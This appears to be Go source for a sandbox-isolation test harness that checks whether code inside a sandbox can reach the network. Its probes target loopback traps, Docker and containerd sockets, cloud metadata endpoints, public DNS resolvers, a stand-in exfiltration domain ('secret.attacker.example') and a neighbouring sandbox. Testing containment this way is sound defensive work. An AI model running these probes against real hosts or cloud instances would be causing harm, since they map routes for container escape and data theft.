package attack

import (
	"context"
	"fmt"
	"net"
	"os"
	"strings"
	"sync/atomic"

	"dreamcore"
	"dreamcore/internal/envd"
	"dreamcore/internal/probe"
	"dreamcore/internal/sandbox"
)

// trap listens on this machine where no sandbox may come: loopback by TCP, UDP
// and IPv6, and an abstract socket.
type trap struct {
	port     string
	abstract string
	visits   atomic.Int64
	closers  []func() error
}

func newTrap() (*trap, error) {
	t := &trap{abstract: "@dreamcore-attack-" + dreamcore.NewToken(8)}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return nil, err
	}
	_, t.port, _ = net.SplitHostPort(l.Addr().String())
	t.take(l)
	if l6, err := net.Listen("tcp", "[::1]:"+t.port); err == nil { // not every machine has IPv6
		t.take(l6)
	}
	a, err := net.Listen("unix", t.abstract)
	if err != nil {
		t.close()
		return nil, err
	}
	t.take(a)
	u, err := net.ListenPacket("udp", "127.0.0.1:"+t.port)
	if err != nil {
		t.close()
		return nil, err
	}
	t.closers = append(t.closers, u.Close)
	go func() {
		buf := make([]byte, 1500)
		for {
			if _, from, err := u.ReadFrom(buf); err == nil {
				t.visits.Add(1)
				_, _ = u.WriteTo(buf[:1], from) // a visitor that does not wait has been counted
			} else {
				return
			}
		}
	}()
	return t, nil
}

func (t *trap) take(l net.Listener) {
	t.closers = append(t.closers, l.Close)
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			t.visits.Add(1)
			c.Close()
		}
	}()
}

func (t *trap) close() {
	for _, c := range t.closers {
		_ = c() // a listener that is closed already
	}
}

// works is the twin of "nobody came": from this machine one can come.
func (t *trap) works() bool {
	before := t.visits.Load()
	u, err := net.Dial("udp", "127.0.0.1:"+t.port)
	if err != nil {
		return false
	}
	defer u.Close()
	if _, err := u.Write([]byte("x")); err != nil {
		return false
	}
	_, err = u.Read(make([]byte, 1))
	return err == nil && t.visits.Load() == before+1
}

// own are this machine's own addresses, its gateway among them.
func own() []string {
	var all []string
	addrs, err := net.InterfaceAddrs()
	if err != nil {
		return nil
	}
	for _, a := range addrs {
		if n, ok := a.(*net.IPNet); ok && !n.IP.IsLoopback() && !n.IP.IsLinkLocalUnicast() {
			all = append(all, n.IP.String())
		}
	}
	if data, err := os.ReadFile("/proc/net/route"); err == nil {
		for line := range strings.Lines(string(data)) {
			var b [4]byte
			if f := strings.Fields(line); len(f) > 2 && f[1] == "00000000" {
				if _, err := fmt.Sscanf(f[2], "%02x%02x%02x%02x", &b[3], &b[2], &b[1], &b[0]); err == nil {
					all = append(all, net.IP(b[:]).String())
				}
			}
		}
	}
	return all
}

func at(line string, kind probe.Kind, targets ...string) []probe.Attempt {
	var all []probe.Attempt
	for _, t := range targets {
		all = append(all, probe.Attempt{ID: line + " " + string(kind) + " " + t, Kind: kind, Target: t})
	}
	return all
}

func names(line, server string, ask ...string) []probe.Attempt {
	var all []probe.Attempt
	for _, n := range ask {
		all = append(all, probe.Attempt{ID: line + " dns " + n + " at " + server, Kind: probe.DNS, Target: server, Data: []byte(n)})
	}
	return all
}

// network tries every way that is not the key proxy.
func (f *field) network(ctx context.Context) error {
	port := f.trap.port
	lines := map[string][]probe.Attempt{}
	lines["E01"] = append(at("E01", probe.TCP, "1.1.1.1:443", "8.8.8.8:53", "9.9.9.9:80", "192.0.2.1:80"),
		append(at("E01", probe.UDP, "8.8.8.8:53", "1.1.1.1:443", "255.255.255.255:67"), probe.Attempt{ID: "E01 links", Kind: probe.Links})...)
	host := []string{"127.0.0.1:" + port, "127.0.0.2:" + port, "0.0.0.0:" + port, "[::1]:" + port, "[::ffff:127.0.0.1]:" + port,
		"172.17.0.1:2375", "172.17.0.1:" + port, "10.0.0.1:80", "192.168.0.1:80", "192.168.1.1:80"}
	for _, a := range own() {
		host = append(host, net.JoinHostPort(a, port), net.JoinHostPort(a, "22"))
	}
	lines["E02"] = append(at("E02", probe.TCP, host...), append(at("E02", probe.UDP, "127.0.0.1:"+port),
		at("E02", probe.Unix, "/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/run/podman/podman.sock", "/run/systemd/private", "/run/dbus/system_bus_socket")...)...)
	lines["E03"] = append(at("E03", probe.TCP, "169.254.169.254:80", "[fd00:ec2::254]:80", "100.100.100.200:80", "192.0.0.192:80", "169.254.170.2:80", "168.63.129.16:80"),
		names("E03", "", "metadata.google.internal", "instance-data.ec2.internal", "metadata")...)
	lines["E04"] = append(at("E04", probe.TCP, "[2606:4700:4700::1111]:443", "[fe80::1]:80", "[fd00::1]:80", "[ff02::1]:80", "[64:ff9b::101:101]:443", "[2002:101:101::]:80"),
		at("E04", probe.UDP, "[2001:4860:4860::8888]:53", "[ff02::fb]:5353")...)
	lines["D01"] = append(names("D01", "", "example.com", "secret.attacker.example", "localhost.attacker.example"),
		append(names("D01", "127.0.0.1:"+port, "a.attacker.example"), append(names("D01", "127.0.0.53:53", "example.com"), names("D01", "8.8.8.8:53", "example.com")...)...)...)
	lines["D04"] = append(at("D04", probe.TCP, "1.1.1.1:853", "8.8.8.8:853", "1.1.1.1:443", "8.8.8.8:443", "9.9.9.9:443"),
		at("D04", probe.UDP, "1.1.1.1:853", "94.140.14.14:853", "1.1.1.1:443", "8.8.8.8:443")...)
	order := []string{"E01", "E02", "E03", "E04", "D01", "D04"}
	var all []probe.Attempt
	for _, l := range order {
		all = append(all, lines[l]...)
	}
	got, err := f.probe(ctx, f.a, sandbox.User, all)
	if err != nil {
		return err
	}
	came := f.trap.visits.Load()
	nobody := func(says string) try { return try{"nobody came to this machine", f.trap.works(), came > 0, says} }
	for _, l := range order {
		ts := tries(lines[l], got)
		if l == "E02" || l == "D01" {
			ts = append(ts, nobody(fmt.Sprintf("%d visits", came)))
		}
		f.judge(l, "no_device", ts...)
	}
	return f.neighbours(ctx)
}

// neighbours looks for the other job's sandbox, and for sockets.
func (f *field) neighbours(ctx context.Context) error {
	listener := "import socket,time\nt=socket.socket(); t.bind(('0.0.0.0',7777)); t.listen()\na=socket.socket(socket.AF_UNIX); a.bind('\\0neighbour'); a.listen()\nprint('up', flush=True); time.sleep(600)"
	p, err := f.b.Start(ctx, sandbox.Command{Args: []string{"python3", "-c", listener}})
	if err != nil {
		return fmt.Errorf("listen in the other sandbox: %w", err)
	}
	select {
	case <-p.Events(): // it is up
	case <-ctx.Done():
		return ctx.Err()
	}
	go func() {
		for range p.Events() { // until its sandbox ends
		}
	}()
	there := append(at("here", probe.TCP, "127.0.0.1:7777"), at("here", probe.Unix, "@neighbour")...)
	home, err := f.probe(ctx, f.b, sandbox.User, there)
	if err != nil {
		return err
	}
	reach := append(at("E09", probe.TCP, "127.0.0.1:7777", string(f.b.ID())+":7777", "neighbour:7777"), at("E09", probe.Unix, "@neighbour")...)
	got, err := f.probe(ctx, f.a, sandbox.Root, append(reach, probe.Attempt{ID: "E09 search", Kind: probe.Search, Target: "/proc", Data: probe.Mask([]byte("'\\0neighbour'"))}))
	if err != nil {
		return err
	}
	e09 := tries(append(reach, probe.Attempt{ID: "E09 search"}), got)
	for _, a := range there {
		e09 = append(e09, try{"the neighbour is there", home[a.ID].Reached, false, home[a.ID].Says})
	}
	f.judge("E09", "gvisor", e09...)

	egress := envd.ControlDir + "/" + envd.EgressSocket
	sockets := []probe.Attempt{{ID: "E10 sockets", Kind: probe.Sockets}}
	asUser, err := f.probe(ctx, f.a, sandbox.User, append(sockets, at("E10", probe.Unix, f.trap.abstract, egress, envd.ControlDir+"/"+envd.ControlSocket)...))
	if err != nil {
		return err
	}
	e10 := tries(append(sockets, at("E10", probe.Unix, f.trap.abstract, egress, envd.ControlDir+"/"+envd.ControlSocket)...), asUser)
	if f.Local {
		hand := []probe.Attempt{{ID: "E10 rights", Kind: probe.Rights, Target: egress}}
		rooted, err := f.probe(ctx, f.a, sandbox.Root, append(hand, sockets...))
		if err != nil {
			return err
		}
		e10 = append(e10, tries(hand, rooted)...)
		seen := strings.Fields(string(rooted["E10 sockets"].Answer))
		for _, s := range seen {
			e10 = append(e10, try{"a socket that root sees: " + s, true, !strings.HasPrefix(s, envd.ControlDir+"/"), "it is not of this sandbox"})
		}
	}
	f.judge("E10", "gvisor", e10...)
	return nil
}
